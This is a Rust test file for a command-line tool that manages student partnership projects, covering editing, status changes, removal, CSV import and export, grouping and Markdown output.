    let code = add(&env, "Themes", &["--theme", "a,b,c"]);
    edit(&env, &code, &["--theme", "x", "--theme", "Y"]);
    assert_eq!(
        env.show("project", &code)["themes"],
        serde_json::json!(["x", "Y"])
    );
}

#[test]
fn edit_add_and_remove_themes() {
    let env = Env::new();
    let code = add(&env, "Themes", &["--theme", "wellbeing,belonging"]);
    edit(&env, &code, &["--add-theme", "inclusion,access"]);
    assert_eq!(
        env.show("project", &code)["themes"],
        serde_json::json!(["access", "belonging", "inclusion", "wellbeing"])
    );
    // Removal ignores case; adding a theme already there in another case changes nothing.
    edit(
        &env,
        &code,
        &[
            "--remove-theme",
            "WELLBEING",
            "--remove-theme",
            "access",
            "--add-theme",
            "Belonging",
        ],
    );
    assert_eq!(
        env.show("project", &code)["themes"],
        serde_json::json!(["belonging", "inclusion"])
    );
}

#[test]
fn edit_removing_a_missing_theme_is_refused() {
    let env = Env::new();
    let code = add(&env, "Themes", &["--theme", "wellbeing"]);
    env.refused(
        &[
            "project",
            "edit",
            &code,
            "--remove-theme",
            "belonging",
            "--title",
            "New",
        ],
        65,
        r#"project "themes-2026" has no theme "belonging""#,
    );
}

#[test]
fn edit_code_renames_the_project() {
    let (env, code) = one_project();
    let out = edit(&env, &code, &["--code", "MH-Peer"]);
    assert_eq!(out, "mh-peer\n");
    let p = env.show("project", "mh-peer");
    assert_eq!(p["title"], "Mental health peer support");
    assert_eq!(p["history"].as_array().map(Vec::len), Some(2), "{p}");
    env.refused(&["project", "show", &code], 66, "no project with code");
}

#[test]
fn edit_with_the_same_values_changes_nothing() {
    let env = Env::demo();
    let before = env.dump();
    let out = env.run(&[
        "project",
        "edit",
        "mh-peer-2025",
        "--dept",
        "Student Services",
        "--add-theme",
        "Wellbeing",
    ]);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "mh-peer-2025\n");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("nothing changed"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(before, env.dump());
}

#[test]
fn edit_bad_values_are_refused() {
    let env = Env::demo();
    for (flag, value, message) in [
        (
            "--form",
            "widr",
            r#"did you mean "wider-student-experience"?"#,
        ),
        ("--level", "partnershp", r#"did you mean "partnership"?"#),
        (
            "--activity",
            "chnge-makers",
            r#"did you mean "change-makers"?"#,
        ),
        ("--achieved", "involvment", r#"did you mean "involvement"?"#),
        ("--year", "2025/27", r#"did you mean "2025/26"?"#),
        ("--start", "2024-02-30", "is not a day of the calendar"),
        ("--end", "1/2/03", "is not written YYYY-MM-DD"),
        ("--budget", "-5", "is negative"),
        ("--budget", "2.555", "more than two decimal places"),
        ("--budget", "abc", "is not an amount of money"),
        ("--cadence", "0m", "review cadence \"0m\" is not valid"),
        ("--title", "Two\nlines", "a project title is one line"),
        // A new code must be free and well formed.
        (
            "--code",
            "welcome-2024",
            r#"a project with code "welcome-2024" already exists; choose another code"#,
        ),
        (
            "--code",
            "not a code",
            r#"project code "not a code" is not valid"#,
        ),
    ] {
        env.refused(
            &["project", "edit", "mh-peer-2025", flag, value],
            65,
            message,
        );
    }
}

#[test]
fn edit_an_end_before_the_start_is_refused() {
    let env = Env::demo();
    // mh-peer-2025 started on 2025-10-01.
    env.refused(
        &["project", "edit", "mh-peer-2025", "--end", "2025-09-30"],
        65,
        "the end date 2025-09-30 is before the start date 2025-10-01",
    );
    // assessment-2024 ended on 2025-06-30.
    env.refused(
        &[
            "project",
            "edit",
            "assessment-2024",
            "--start",
            "2025-07-01",
        ],
        65,
        "the end date 2025-06-30 is before the start date 2025-07-01",
    );
}

// ---------------------------------------------------------------------------------------------
// status

/// `spm project status CODE` and then `rest`.
fn status_args<'a>(code: &'a str, rest: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["project", "status", code];
    args.extend_from_slice(rest);
    args
}

/// Moves project `code` on with `spm project status CODE REST...`, expecting success.
fn set_status(env: &Env, code: &str, rest: &[&str]) {
    env.ok(&status_args(code, rest));
}

#[test]
fn status_active_sets_a_missing_start_date_and_keeps_the_note() {
    let (env, code) = one_project();
    let out = env.run_ok(&status_args(
        &code,
        &["active", "--on", "2026-10-01", "--note", "kick-off meeting"],
    ));
    assert!(out.stdout.is_empty());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("is active from 2026-10-01"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let p = env.show("project", &code);
    assert_eq!(p["status"], "active");
    assert_eq!(p["start_date"], "2026-10-01");
    assert!(p["end_date"].is_null());
    assert_eq!(
        p["status_history"],
        serde_json::json!([{"on": "2026-10-01", "status": "active", "note": "kick-off meeting"}])
    );
    let history = p["history"].as_array().expect("history");
    let last = &history.last().expect("an entry")["fields"];
    assert_eq!(
        last["status"],
        serde_json::json!(["proposed", "active"]),
        "{p}"
    );
    assert_eq!(last["note"], "kick-off meeting", "{p}");
    let table = env.ok(&["project", "show", &code]);
    assert!(table.contains("status: proposed → active"), "{table}");
}

#[test]
fn status_active_keeps_an_earlier_start_and_brings_a_later_one_forward() {
    // (planned start, day it became active, start date afterwards)
    let cases = [
        ("2026-09-01", "2026-10-01", "2026-09-01"),
        ("2027-01-10", "2026-11-01", "2026-11-01"),
    ];
    for (i, (planned, on, expected)) in cases.into_iter().enumerate() {
        let env = Env::new();
        let code = add(&env, &format!("Planned {i}"), &["--start", planned]);
        set_status(&env, &code, &["active", "--on", on]);
        assert_eq!(
            env.show("project", &code)["start_date"],
            expected,
            "{planned} {on}"
        );
    }
}

#[test]
fn status_moves_through_paused_and_completed() {
    let (env, code) = one_project();
    set_status(&env, &code, &["active", "--on", "2026-10-01"]);
    set_status(
        &env,
        &code,
        &["paused", "--on", "2026-10-15", "--note", "lead on leave"],
    );
    assert_eq!(env.show("project", &code)["status"], "paused");
    set_status(&env, &code, &["active", "--on", "2026-11-01"]);
    set_status(&env, &code, &["completed", "--on", "2026-11-20"]);
    let p = env.show("project", &code);
    assert_eq!(p["status"], "completed");
    assert_eq!(p["start_date"], "2026-10-01");
    assert_eq!(p["end_date"], "2026-11-20");
    let moves: Vec<(&str, &str)> = p["status_history"]
        .as_array()
        .expect("status history")
        .iter()
        .map(|s| {
            (
                s["on"].as_str().unwrap_or(""),
                s["status"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        moves,
        [
            ("2026-10-01", "active"),
            ("2026-10-15", "paused"),
            ("2026-11-01", "active"),
            ("2026-11-20", "completed"),
        ]
    );
    assert_eq!(p["status_history"][1]["note"], "lead on leave");
    assert!(p["status_history"][2]["note"].is_null());
    // A completed project can be reopened.
    set_status(&env, &code, &["active", "--on", "2026-11-21"]);
    assert_eq!(env.show("project", &code)["status"], "active");
}

#[test]
fn status_completed_keeps_an_existing_end_date() {
    let env = Env::new();
    let code = add(
        &env,
        "Dated",
        &["--start", "2026-09-01", "--end", "2027-06-30"],
    );
    set_status(&env, &code, &["active", "--on", "2026-09-01"]);
    set_status(&env, &code, &["completed", "--on", "2026-11-20"]);
    assert_eq!(env.show("project", &code)["end_date"], "2027-06-30");
}

#[test]
fn status_withdrawn_sets_a_missing_end_date() {
    let (env, code) = one_project();
    set_status(
        &env,
        &code,
        &["withdrawn", "--on", "2026-11-01", "--note", "no students"],
    );
    let p = env.show("project", &code);
    assert_eq!(p["status"], "withdrawn");
    assert_eq!(p["end_date"], "2026-11-01");
    assert!(p["start_date"].is_null());
    assert_eq!(p["status_history"][0]["note"], "no students");
}

#[test]
fn status_withdrawing_a_proposed_project_before_its_planned_start_is_allowed() {
    // The planned start is after today, so "end = today" would fall before it.
    let env = Env::new();
    let code = add(&env, "Next term", &["--start", "2027-01-10"]);
    set_status(&env, &code, &["withdrawn"]);
    let p = env.show("project", &code);
    assert_eq!(p["status"], "withdrawn");
    if let (Some(start), Some(end)) = (p["start_date"].as_str(), p["end_date"].as_str()) {
        assert!(end >= start, "end {end} before start {start}");
    }
}

#[test]
fn status_on_defaults_to_today() {
    let (env, code) = one_project();
    set_status(&env, &code, &["active"]);
    let p = env.show("project", &code);
    assert_eq!(p["start_date"], TODAY);
    assert_eq!(p["status_history"][0]["on"], TODAY);
}

#[test]
fn status_a_move_the_life_of_a_project_does_not_allow_is_refused() {
    let env = Env::demo();
    for (args, message) in [
        (
            status_args("mh-peer-2025", &["active"]),
            r#"project "mh-peer-2025" is already active"#,
        ),
        (
            status_args("mh-peer-2025", &["proposed"]),
            "a project cannot go back to proposed",
        ),
        (
            status_args("lab-methods-2026", &["paused"]),
            r#"project "lab-methods-2026" cannot go from proposed to paused; from proposed it can go to: active, withdrawn"#,
        ),
        (
            status_args("assessment-2024", &["withdrawn"]),
            "cannot go from completed to withdrawn",
        ),
        // A move cannot be dated before the last one.
        (
            status_args("mh-peer-2025", &["paused", "--on", "2025-09-30"]),
            "2025-09-30 is before the project's last change of status on 2025-10-01",
        ),
    ] {
        env.refused(&args, 65, message);
    }
    // The same day as the last change is fine.
    set_status(&env, "mh-peer-2025", &["paused", "--on", "2025-10-01"]);
}

#[test]
fn status_bad_values_are_refused() {
    let env = Env::demo();
    for (rest, message) in [
        (
            &["paused", "--on", "2024-02-30"][..],
            "is not a day of the calendar",
        ),
        (&["paused", "--on", "1/2/03"], "is not written YYYY-MM-DD"),
        (&["pased"], r#"did you mean "paused"?"#),
        (
            &["paused", "--note", "bell\u{7}"],
            "the note contains control characters",
        ),
    ] {
        env.refused(&status_args("mh-peer-2025", rest), 65, message);
    }
}

// ---------------------------------------------------------------------------------------------
// remove

#[test]
fn remove_with_yes_deletes_the_project_only() {
    let env = Env::demo();
    let out = env.run(&["project", "remove", "reps-forum-2025", "--yes"]);
    assert!(out.stdout.is_empty());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("removed project reps-forum-2025"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    env.refused(
        &["project", "show", "reps-forum-2025"],
        66,
        "no project with code",
    );
    let left = env.codes("project", &[]);
    assert_eq!(left.len(), 14);
    assert!(!left.iter().any(|c| c == "reps-forum-2025"));
}

#[test]
fn remove_rm_is_an_alias_with_short_y() {
    let (env, code) = one_project();
    env.ok(&["project", "rm", &code, "-y"]);
    assert!(env.codes("project", &[]).is_empty());
    // The code is free again.
    assert_eq!(add(&env, "Mental health peer support", &[]), code);
}

#[test]
fn remove_then_add_gives_the_new_project_a_history_of_its_own() {
    // The change log keeps the removed project's entries; a new project must not inherit
    // them (SQLite reuses the highest rowid once it is deleted).
    let env = Env::new();
    let old = add(&env, "Registered by mistake", &[]);
    env.ok(&["project", "rm", &old, "--yes"]);
    let new = add(&env, "Brand new project", &[]);
    let p = env.show("project", &new);
    let history = p["history"].as_array().expect("history");
    assert_eq!(history.len(), 1, "{p}");
    assert_eq!(history[0]["action"], "insert");
}

// ---------------------------------------------------------------------------------------------
// refusals every verb shares

#[test]
fn missing_input_is_a_usage_error() {
    let env = Env::demo();
    for (args, message) in [
        (
            vec!["project", "add", "X", "--level", LEVEL],
            "--form is required; one of: co-creation-of-curriculum",
        ),
        (
            vec!["project", "add", "X", "--form", FORM],
            "--level is required; one of: consultation",
        ),
        // With no title and no terminal to ask for one.
        (
            vec!["project", "add", "--form", FORM, "--level", LEVEL],
            "a title is needed, and there is no terminal to ask for it",
        ),
        (
            vec!["project", "edit", "mh-peer-2025"],
            "nothing to change: give at least one field",
        ),
        // With no --yes and no terminal to confirm on.
        (
            vec!["project", "remove", "mh-peer-2025"],
            "removing project mh-peer-2025 needs confirmation: add --yes",
        ),
    ] {
        env.refused(&args, 64, message);
    }
}

#[test]
fn an_unknown_code_exits_66() {
    let env = Env::demo();
    for (args, message) in [
        (
            vec!["project", "show", "nope-2025"],
            r#"no project with code "nope-2025"; run "spm project list" to see the codes"#,
        ),
        (
            vec!["project", "edit", "nope", "--title", "X"],
            r#"no project with code "nope""#,
        ),
        (
            vec!["project", "status", "nope", "active"],
            r#"no project with code "nope""#,
        ),
        (
            vec!["project", "rm", "nope", "--yes"],
            r#"no project with code "nope""#,
        ),
    ] {
        env.refused(&args, 66, message);
    }
}

#[test]
fn unknown_flags_and_missing_arguments_are_clap_errors() {
    let env = Env::demo();
    for (args, message) in [
        (add_args("X", &["--bogus"]), "unexpected argument '--bogus'"),
        (
            vec!["project", "list", "--colour"],
            "unexpected argument '--colour'",
        ),
        (
            vec!["--format", "xml", "project", "list"],
            "invalid value 'xml'",
        ),
        (vec!["project", "show"], "<CODE>"),
        (
            vec!["project", "edit", "mh-peer-2025", "--status", "active"],
            "unexpected argument '--status'",
        ),
        (vec!["project", "status", "mh-peer-2025"], "<STATUS>"),
        (
            status_args("mh-peer-2025", &["paused", "--when", "2026-01-01"]),
            "unexpected argument '--when'",
        ),
    ] {
        env.clap_fails(&args, message);
    }
}

// ---------------------------------------------------------------------------------------------
// stdout closed or full

#[test]
fn list_into_a_pipe_closed_after_one_line_exits_0_quietly() {
    let env = Env::demo();
    // Long titles make every format far bigger than a pipe holds (64 KiB), so spm is still
    // writing when the reader goes away.
    let long = "partnership ".repeat(160);
    for i in 0..60 {
        add(&env, &format!("Long project {i} {long}"), &[]);
    }
    for format in ["table", "csv", "json", "md"] {
        let mut child = env
            .std_cmd(&["--format", format, "project", "list"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spm starts");
        let mut reader = BufReader::new(child.stdout.take().expect("a stdout pipe"));
        let mut first = String::new();
        reader.read_line(&mut first).expect("a first line");
        assert!(!first.is_empty());
        drop(reader);
        let out = child.wait_with_output().expect("spm ends");
        assert!(out.status.success(), "{format}: status {}", out.status);
        assert_eq!(String::from_utf8_lossy(&out.stderr), "", "{format}");
    }
}

#[test]
fn list_into_a_pipe_closed_before_reading_exits_0_quietly() {
    let env = Env::demo();
    let mut child = env
        .std_cmd(&["--format", "json", "project", "list"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spm starts");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("spm ends");
    assert!(out.status.success(), "status {}", out.status);
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

#[test]
fn list_to_a_full_disk_exits_74() {
    let env = Env::demo();
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .expect("/dev/full");
    let before = env.dump();
    let out = env
        .std_cmd(&["project", "list"])
        .stdout(full)
        .output()
        .expect("spm runs");
    assert_eq!(out.status.code(), Some(74), "status {}", out.status);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.starts_with("error: cannot write the output") && stderr.lines().count() == 1,
        "{stderr}"
    );
    assert_eq!(before, env.dump());
}

#[test]
fn status_reopening_a_completed_project_clears_its_end_date() {
    let (env, code) = one_project();
    set_status(&env, &code, &["active", "--on", "2025-10-01"]);
    set_status(&env, &code, &["completed", "--on", "2026-06-30"]);
    set_status(
        &env,
        &code,
        &["active", "--on", "2026-09-01", "--note", "second year"],
    );
    let p = env.show("project", &code);
    assert!(p["end_date"].is_null(), "{p}");
    set_status(&env, &code, &["completed", "--on", "2026-11-20"]);
    assert_eq!(env.show("project", &code)["end_date"], "2026-11-20");
}

#[test]
fn status_in_the_future_is_refused() {
    let (env, code) = one_project();
    let err = env.refused(
        &status_args(&code, &["active", "--on", "9999-12-31"]),
        65,
        "in the future",
    );
    assert!(err.contains("today is 2026-11-23"), "{err}");
}

#[test]
fn add_checks_every_flag_before_creating_the_database() {
    let env = Env::new();
    let err = env.fails(&["project", "add", "--budget", "abc"], 65);
    assert!(err.contains("abc"), "{err}");
    assert!(
        !env.db.exists(),
        "a refused add must not create the database"
    );
}

#[test]
fn add_themes_differing_only_in_case_are_one_theme_in_any_script() {
    let env = Env::new();
    let code = add(
        &env,
        "Apples",
        &["--theme", "Äpfel", "--theme", "äpfel,ÄPFEL"],
    );
    assert_eq!(
        env.show("project", &code)["themes"],
        serde_json::json!(["Äpfel"])
    );
    env.ok(&["project", "edit", &code, "--remove-theme", "ÄPFEL"]);
    assert_eq!(env.show("project", &code)["themes"], serde_json::json!([]));
}

#[test]
fn show_json_history_has_old_and_new_values_as_data() {
    let (env, code) = one_project();
    env.ok(&["project", "edit", &code, "--title", "A better title"]);
    let p = env.show("project", &code);
    let change = &p["history"][1]["fields"];
    assert_eq!(change["title"][1], "A better title", "{p}");
    assert!(change["title"][0].is_string(), "{p}");
}

#[test]
fn the_database_refuses_an_academic_year_that_does_not_follow() {
    let (env, code) = one_project();
    let conn = env.conn();
    for year in ["2025/27", "1899/00", "3000/01"] {
        let changed = conn.execute(
            "UPDATE projects SET academic_year = ?1 WHERE code = ?2",
            [year, code.as_str()],
        );
        assert!(changed.is_err(), "{year} should break the CHECK constraint");
    }
}

// ---------------------------------------------------------------------------------------------
// --group-by: the Change Makers gallery and archive

#[test]
fn group_by_theme_lists_a_project_under_each_of_its_themes() {
    let env = Env::demo();
    let groups = env.json_list(&[
        "project",
        "list",
        "--activity",
        "change-makers",
        "--group-by",
        "theme",
    ]);
    let names: Vec<&str> = groups
        .iter()
        .map(|g| g["theme"].as_str().expect("a theme"))
        .collect();
    assert_eq!(
        names,
        ["assessment", "belonging", "feedback", "timetabling"]
    );
    let codes = |i: usize| codes_of(groups[i]["items"].as_array().expect("items"));
    assert_eq!(codes(1), ["cm-commuter-2025"]);
    assert_eq!(codes(2), ["cm-feedback-2024"]);
    // The year narrows the gallery; CSV puts the group in the first column.
    let csv = env.ok(&[
        "--format",
        "csv",
        "project",
        "list",
        "--activity",
        "change-makers",
        "--year",
        "2025/26",
        "--group-by",
        "theme",
    ]);
    let (header, rows) = read_csv(&csv);
    assert_eq!(header[0], "theme");
    assert_eq!(rows.len(), 2, "{csv}");
    assert!(rows.iter().all(|r| r[1] == "cm-commuter-2025"));
    // People get a heading and a table per group; Markdown a section per group.
    let table = env.ok(&[
        "project",
        "list",
        "--activity",
        "change-makers",
        "--group-by",
        "theme",
    ]);
    assert!(table.starts_with("assessment (1)\n"), "{table}");
    let md = env.ok(&[
        "--format",
        "md",
        "project",
        "list",
        "--activity",
        "change-makers",
        "--group-by",
        "theme",
    ]);
    assert!(md.starts_with("## assessment\n\n| Code |"), "{md}");
}

#[test]
fn group_by_puts_projects_without_a_value_last() {
    let env = Env::demo();
    let groups = env.json_list(&["project", "list", "--group-by", "activity"]);
    let last = groups.last().expect("groups");
    assert!(groups.len() > 2);
    assert_ne!(
        last["activity"], "(none)",
        "every demo project has an activity"
    );
    let groups = env.json_list(&["project", "list", "--group-by", "year"]);
    let years: Vec<&str> = groups
        .iter()
        .map(|g| g["year"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(years, ["2021/22", "2024/25", "2025/26", "2026/27"]);
}

#[test]
fn group_by_an_unknown_field_is_refused() {
    let env = Env::demo();
    env.refused(
        &["project", "list", "--group-by", "colour"],
        65,
        "unknown grouping \"colour\"",
    );
    env.clap_fails(&["project", "list", "--group-by"], "");
}

/// `project list` streams its rows: a table to a pipe is laid out from every row's width,
/// including letters outside ASCII, and `--output` writes the same bytes as stdout.
#[test]
fn a_streamed_table_lines_up_and_matches_its_output_file() {
    let env = Env::fresh();
    add(&env, "Zoë's café survey", &["--dept", "Études françaises"]);
    add(
        &env,
        "A much longer title than the other one",
        &["--theme", "belonging"],
    );
    let table = env.ok(&["project", "list"]);
    let widths: Vec<usize> = table.lines().map(|l| l.chars().count()).collect();
    assert_eq!(widths.len(), 6, "{table}");
    assert!(widths.iter().all(|w| *w == widths[0]), "{table}");
    assert!(table.contains("┆ Études françaises ┆"), "{table}");
    let file = env.path("list.txt");
    let file_arg = file.to_string_lossy().to_string();
    env.ok(&["--output", &file_arg, "project", "list"]);
    assert_eq!(
        std::fs::read_to_string(&file).ok().as_deref(),
        Some(table.as_str())
    );
    let none = env.ok(&["project", "list", "--status", "withdrawn"]);
    assert_eq!(none.lines().count(), 4, "{none}");
    let csv = env.ok(&[
        "--format",
        "csv",
        "project",
        "list",
        "--status",
        "withdrawn",
    ]);
    assert!(
        csv.starts_with("code,title,summary,status,") && csv.lines().count() == 1,
        "{csv}"
    );
}

#[test]
fn markdown_escapes_what_markdown_would_read() {
    let env = Env::fresh();
    env.ok(&[
        "project",
        "add",
        "*Draft* [v2] of peer_review",
        "--code",
        "md-title",
        "--form",
        "educational-research",
        "--level",
        "partnership",
    ]);
    let text = env.ok(&["--format", "md", "project", "list"]);
    assert!(
        text.contains("| \\*Draft\\* \\[v2\\] of peer\\_review |"),
        "{text}"
    );
    let shown = env.ok(&["--format", "md", "project", "show", "md-title"]);
    assert!(
        shown.contains("\\*Draft\\* \\[v2\\] of peer\\_review"),
        "{shown}"
    );
    // An unknown project is refused in Markdown as in every format, and changes nothing.
    env.refused(
        &["--format", "md", "project", "show", "md-nope"],
        66,
        r#"no project with code "md-nope""#,
    );
}

#[test]
fn ten_thousand_projects_without_codes_sharing_their_first_words_all_get_codes() {
    let env = Env::fresh();
    let mut csv = String::from("title,form,level_planned,academic_year\n");
    for i in 0..10_001 {
        csv.push_str(&format!(
            "Mental health peer support {i},wider-student-experience,partnership,2025/26\n"
        ));
    }
    std::fs::write(env.path("many.csv"), csv).expect("the file");
    env.ok(&["project", "import", "many.csv", "-q"]);
    let codes = env.codes("project", &["--year", "2025/26"]);
    assert_eq!(codes.len(), 10_001);
    let distinct: std::collections::HashSet<&String> = codes.iter().collect();
    assert_eq!(distinct.len(), 10_001);
    assert!(codes.contains(&"mental-health-2025-10001".to_string()));
    // Past 9,999, project add still makes a code.
    let out = env.ok(&[
        "project",
        "add",
        "Mental health once more",
        "--form",
        "wider-student-experience",
        "--level",
        "partnership",
        "--year",
        "2025/26",
    ]);
    assert_eq!(out.trim(), "mental-health-2025-10002");
}

#[test]
fn an_export_imports_back_when_two_leads_share_a_name() {
    let env = Env::fresh();
    for (email, code) in [
        ("s.khan@uni.ac.uk", "one-2025"),
        ("sara.khan@uni.ac.uk", "two-2025"),
    ] {
        env.ok(&[
            "person",
            "add",
            "Sara Khan",
            "--kind",
            "staff",
            "--email",
            email,
        ]);
        env.ok(&add_args(
            code,
            &["--code", code, "--lead", email, "--year", "2025/26"],
        ));
    }
    let text = env.ok(&["--format", "csv", "project", "list"]);
    let records = csv_records(&text);
    let lead_of = |code: &str| {
        let r = records
            .iter()
            .find(|r| r["code"] == code)
            .expect("the project");
        (r["lead"].clone(), r["lead_email"].clone())
    };
    assert_eq!(
        lead_of("one-2025"),
        ("Sara Khan".into(), "s.khan@uni.ac.uk".into())
    );
    assert_eq!(
        lead_of("two-2025"),
        ("Sara Khan".into(), "sara.khan@uni.ac.uk".into())
    );
    // Into a new database: each project goes to its own Sara Khan, registered with her email.
    let other = Env::fresh();
    std::fs::write(other.path("projects.csv"), &text).expect("the export");
    other.ok(&["project", "import", "projects.csv"]);
    assert_eq!(
        csv_records(&other.ok(&["--format", "csv", "project", "list"]))
            .iter()
            .map(|r| (r["code"].clone(), r["lead_email"].clone()))
            .collect::<Vec<_>>(),
        [
            ("one-2025".to_string(), "s.khan@uni.ac.uk".to_string()),
            ("two-2025".to_string(), "sara.khan@uni.ac.uk".to_string())
        ]
    );
    // Back into the first, with the leads swapped: --update follows the emails.
    let swapped = text
        .replace("s.khan@uni.ac.uk", "TMP")
        .replace("sara.khan@uni.ac.uk", "s.khan@uni.ac.uk")
        .replace("TMP", "sara.khan@uni.ac.uk");
    std::fs::write(env.path("swapped.csv"), swapped).expect("the file");
    env.ok(&["project", "import", "swapped.csv", "--update"]);
    let after = csv_records(&env.ok(&["--format", "csv", "project", "list"]));
    let one = after.iter().find(|r| r["code"] == "one-2025").expect("one");
    assert_eq!(one["lead_email"], "sara.khan@uni.ac.uk");
    // An email nobody has, with no name to register them by, is refused with its column.
    std::fs::write(
        env.path("bad.csv"),
        "code,title,form,level_planned,lead_email\nnew-2025,New,wider-student-experience,partnership,nobody@uni.ac.uk\n",
    )
    .expect("the file");
    env.refused(
        &["project", "import", "bad.csv"],
        65,
        "nobody has the email",
    );
}

/// What `project edit` says it changed, and the history `project show` prints, name the
/// fields in words; JSON keeps the stable keys.
#[test]
fn edit_names_the_changed_fields_in_words() {
    let (env, code) = one_project();
    let out = env.run_ok(&[
        "project",
        "edit",
        &code,
        "--achieved",
        "involvement",
        "--year",
        "2025/26",
    ]);
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains(&format!("updated project {code}: achieved level, year")),
        "{said}"
    );
    let shown = env.ok(&["--format", "md", "project", "show", &code]);
    assert!(
        shown.contains("achieved level: (none) → involvement"),
        "{shown}"
    );
    assert!(!shown.contains("level_achieved"), "{shown}");
    let json = env.ok(&["--format", "json", "project", "show", &code]);
    assert!(json.contains("\"level_achieved\""), "{json}");
}
